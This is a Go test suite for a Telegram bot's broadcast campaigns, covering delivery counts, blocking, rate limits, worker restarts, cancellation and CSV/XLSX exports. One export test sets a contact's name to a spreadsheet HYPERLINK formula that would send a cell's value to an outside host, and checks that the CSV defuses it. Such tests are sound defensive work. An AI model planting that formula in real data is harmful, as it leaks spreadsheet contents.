package broadcast_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/tgdesk/helpdesk/internal/broadcast"
	"github.com/tgdesk/helpdesk/internal/tgsandbox"
)

// Every recipient gets the message once, with their own name; the stats
// and the exports agree; "read more" reveals the full text and counts a view.
func TestCampaignDeliversOnceToEveryone(t *testing.T) {
	r := newRig(t, rigOptions{})
	ctx := context.Background()
	ps := r.people("Ann", 12)
	c := r.create(t, "news", broadcast.Content{
		Text:     "<b>Hello</b>, {first_name}! [m1]",
		FullText: "Full story for {first_name} [full1]",
		Buttons:  []broadcast.Button{{Text: "Site", URL: "https://example.com/x"}},
	})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	for _, p := range ps {
		if n := r.received(p.user.ID, "[m1]"); n != 1 {
			t.Fatalf("%s got %d copies", p.user.FirstName, n)
		}
		if r.received(p.user.ID, "Hello, "+p.user.FirstName+"! [m1]") != 1 {
			t.Fatalf("%s: placeholder not filled", p.user.FirstName)
		}
	}
	st := r.stats(t, c.ID)
	if st.AudienceSize != 12 || st.Sent != 12 || st.Queued != 0 || st.Failed != 0 || st.Blocked != 0 || st.Unknown != 0 {
		t.Fatalf("stats %+v", st)
	}

	// Read more: the message is edited to the full text; a view is counted once.
	var msg tgsandbox.Entry
	for _, e := range r.sb.PrivateTranscript(r.bot.ID, ps[0].user.ID) {
		if strings.Contains(e.Text, "[m1]") {
			msg = e
		}
	}
	data := buttonData(t, msg, "Read more")
	for range 2 {
		if _, err := r.sb.PressButton(ps[0].user.ID, r.bot.ID, msg.MessageID, data); err != nil {
			t.Fatal(err)
		}
	}
	eventually(t, "the full text", func() bool { return r.received(ps[0].user.ID, "[full1]") == 1 })
	eventually(t, "one view", func() bool { return r.stats(t, c.ID).Viewed == 1 })

	// Exports: a header and a row per recipient; a name chosen to be a
	// spreadsheet formula stays text in the CSV.
	const formula = `=HYPERLINK("http://x/?"&A1,"Click")`
	if _, err := env.Owner.Exec(ctx, `UPDATE contacts SET first_name = $2 WHERE tenant_id = $1 AND tg_user_id = $3`,
		r.tenant, formula, ps[0].user.ID); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := r.svc.ExportCSV(ctx, r.tenant, c.ID, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 13 || recs[1][6] != "sent" {
		t.Fatalf("csv: %v %d rows %v", err, len(recs), recs[:min(2, len(recs))])
	}
	defused := 0
	for _, rec := range recs {
		if rec[2] == formula {
			t.Fatalf("the CSV carries a live formula: %v", rec)
		}
		if rec[2] == "'"+formula {
			defused++
		}
	}
	if defused != 1 {
		t.Fatalf("%d defused formula names in the CSV, want 1", defused)
	}
	buf.Reset()
	if err := r.svc.ExportXLSX(ctx, r.tenant, c.ID, &buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("Recipients")
	if err != nil || len(rows) != 13 || rows[0][0] != "contact_id" {
		t.Fatalf("xlsx: %v %d rows", err, len(rows))
	}
}

func buttonData(t *testing.T, e tgsandbox.Entry, label string) string {
	t.Helper()
	var m struct {
		ReplyMarkup struct {
			InlineKeyboard [][]struct {
				Text string `json:"text"`
				Data string `json:"callback_data"`
				URL  string `json:"url"`
			} `json:"inline_keyboard"`
		} `json:"reply_markup"`
	}
	_ = json.Unmarshal(e.Message, &m)
	for _, row := range m.ReplyMarkup.InlineKeyboard {
		for _, b := range row {
			if b.Text == label {
				if b.Data != "" {
					return b.Data
				}
				return b.URL
			}
		}
	}
	t.Fatalf("no button %q in %s", label, e.Message)
	return ""
}

// People who block the bot without the platform knowing yet (the
// my_chat_member updates are lost) are answered 403 when their turn comes:
// marked blocked, their chats unreachable and unsubscribed; everyone else
// still gets the message, once.
func TestBlockingMidCampaign(t *testing.T) {
	r := newRig(t, rigOptions{scale: 1, minWindow: 3, windowSpan: 50 * time.Millisecond})
	ctx := context.Background()
	ps := r.people("Bea", 15)
	if err := r.sb.DropWebhookDeliveries(r.bot.ID, 3); err != nil {
		t.Fatal(err)
	}
	for _, p := range ps[12:] {
		if err := r.sb.BlockBot(p.user.ID, r.bot.ID); err != nil {
			t.Fatal(err)
		}
	}
	c := r.create(t, "blocking", broadcast.Content{Text: "Hi {first_name} [m2]"})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	st := r.stats(t, c.ID)
	if st.AudienceSize != 15 || st.Sent != 12 || st.Blocked != 3 || st.Failed != 0 || st.Unknown != 0 {
		t.Fatalf("stats %+v", st)
	}
	for i, p := range ps {
		if n := r.received(p.user.ID, "[m2]"); (i < 12 && n != 1) || (i >= 12 && n != 0) {
			t.Fatalf("%s got %d copies", p.user.FirstName, n)
		}
	}
	var unreachable int
	_ = env.Owner.QueryRow(ctx, `SELECT count(*) FROM bot_chats WHERE bot_id = $1 AND NOT reachable AND unsubscribed`, r.bot.ID).Scan(&unreachable)
	if unreachable != 3 {
		t.Fatalf("%d unreachable chats, want 3", unreachable)
	}
}

// A 429 storm pauses the destinations for retry_after and is not a
// failure: everyone gets the message exactly once.
func Test429StormNoDuplicate(t *testing.T) {
	r := newRig(t, rigOptions{})
	ctx := context.Background()
	ps := r.people("Cid", 10)
	if err := r.sb.FailNext(tgsandbox.Fault{BotID: r.bot.ID, Method: "sendMessage", Times: 8, Code: 429, RetryAfter: 1}); err != nil {
		t.Fatal(err)
	}
	c := r.create(t, "storm", broadcast.Content{Text: "Storm [m3]"})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	for _, p := range ps {
		if n := r.received(p.user.ID, "[m3]"); n != 1 {
			t.Fatalf("%s got %d copies", p.user.FirstName, n)
		}
	}
	if st := r.stats(t, c.ID); st.Sent != 10 || st.Failed != 0 {
		t.Fatalf("stats %+v", st)
	}
}

// The worker is stopped mid-campaign and a new one started: the campaign
// resumes from its checkpoint; nobody gets it twice and nobody is skipped
// (each recipient has a delivery row; one interrupted call may be
// 'unknown', which is reported and never repeated).
func TestWorkerKilledMidCampaign(t *testing.T) {
	r := newRig(t, rigOptions{scale: 1, minWindow: 3, windowSpan: 50 * time.Millisecond})
	ctx := context.Background()
	ps := r.people("Dan", 30)
	c := r.create(t, "restart", broadcast.Content{Text: "Resume [m4]"})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	eventually(t, "some sends", func() bool { return r.stats(t, c.ID).Sent >= 5 })
	r.stopWorker()
	mid := r.stats(t, c.ID)
	if mid.Status != broadcast.StatusSending || mid.Sent+mid.Queued+mid.Unknown >= 30 {
		t.Fatalf("the campaign was not mid-way when the worker stopped: %+v", mid)
	}
	r.startWorker()
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	st := r.stats(t, c.ID)
	if st.Sent+st.Unknown != 30 || st.Failed != 0 {
		t.Fatalf("stats %+v", st)
	}
	got := 0
	for _, p := range ps {
		n := r.received(p.user.ID, "[m4]")
		if n > 1 {
			t.Fatalf("%s got %d copies", p.user.FirstName, n)
		}
		got += n
	}
	if got < st.Sent || got > st.Sent+st.Unknown {
		t.Fatalf("%d received, stats %+v", got, st)
	}
}

// Cancel while sending: what was queued (one window) goes out, nothing
// after it; nobody gets it twice.
func TestCancelDuringSending(t *testing.T) {
	r := newRig(t, rigOptions{scale: 1, minWindow: 3, windowSpan: 50 * time.Millisecond})
	ctx := context.Background()
	ps := r.people("Eve", 30)
	c := r.create(t, "cancel", broadcast.Content{Text: "Cancel me [m5]"})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	eventually(t, "some sends", func() bool { return r.stats(t, c.ID).Sent >= 3 })
	if _, err := r.svc.Cancel(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the window drained", func() bool { return r.stats(t, c.ID).Queued == 0 })
	st := r.stats(t, c.ID)
	if st.Status != broadcast.StatusCancelled || st.Sent >= 30 {
		t.Fatalf("stats %+v", st)
	}
	var rows int
	_ = env.Owner.QueryRow(ctx, `SELECT count(*) FROM campaign_deliveries WHERE campaign_id = $1`, c.ID).Scan(&rows)
	// Nothing is queued after the cancel, and the sweeper starts no leader.
	if err := r.svc.Sweep(ctx); err != nil {
		t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond) // a leader would have queued more by now (no sync point exists for "nothing happens")
	var after int
	_ = env.Owner.QueryRow(ctx, `SELECT count(*) FROM campaign_deliveries WHERE campaign_id = $1`, c.ID).Scan(&after)
	if after != rows {
		t.Fatalf("%d deliveries after cancel, %d before", after, rows)
	}
	got := 0
	for _, p := range ps {
		n := r.received(p.user.ID, "[m5]")
		if n > 1 {
			t.Fatal("a duplicate")
		}
		got += n
	}
	if got != st.Sent {
		t.Fatalf("%d received, %d sent", got, st.Sent)
	}
	if _, err := r.svc.Resume(ctx, r.tenant, c.ID); !errors.Is(err, broadcast.ErrState) {
		t.Fatalf("resume a cancelled campaign: %v", err)
	}
}

// The checkpoint moves only after a page's chunks committed; a crash in
// between makes the next leader page the same recipients again. That must
// record and send nothing new: here the whole campaign is paged again from
// a checkpoint set back to the start.
func TestRepagingAfterLostCheckpointSendsNothing(t *testing.T) {
	r := newRig(t, rigOptions{})
	ctx := context.Background()
	ps := r.people("Oda", 8)
	c := r.create(t, "repage", broadcast.Content{Text: "Once [mr]"})
	if _, err := r.svc.SendNow(ctx, r.tenant, c.ID); err != nil {
		t.Fatal(err)
	}
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	count := func() (deliveries, outboxRows int) {
		_ = env.Owner.QueryRow(ctx, `SELECT (SELECT count(*) FROM campaign_deliveries WHERE campaign_id = $1),
			(SELECT count(*) FROM outbox_messages WHERE kind = 'broadcast' AND ref = $2)`, c.ID, c.ID.String()).Scan(&deliveries, &outboxRows)
		return
	}
	d0, o0 := count()
	if _, err := env.Owner.Exec(ctx, `UPDATE campaigns SET status = 'sending', finished_at = NULL, exhausted = false,
		checkpoint = '00000000-0000-0000-0000-000000000000' WHERE id = $1`, c.ID); err != nil {
		t.Fatal(err)
	}
	// The sweeper gives the "crashed" campaign a leader, which pages everyone again.
	if err := r.svc.Sweep(ctx); err != nil {
		t.Fatal(err)
	}
	r.waitStatus(t, c.ID, broadcast.StatusDone)
	if d1, o1 := count(); d1 != d0 || o1 != o0 || d0 != 8 {
		t.Fatalf("deliveries %d → %d, outbox rows %d → %d", d0, d1, o0, o1)
	}
	for _, p := range ps {
		if n := r.received(p.user.ID, "[mr]"); n != 1 {
			t.Fatalf("%s got %d copies", p.user.FirstName, n)
		}
	}
	if st := r.stats(t, c.ID); st.Sent != 8 {
		t.Fatalf("stats %+v", st)
	}
}
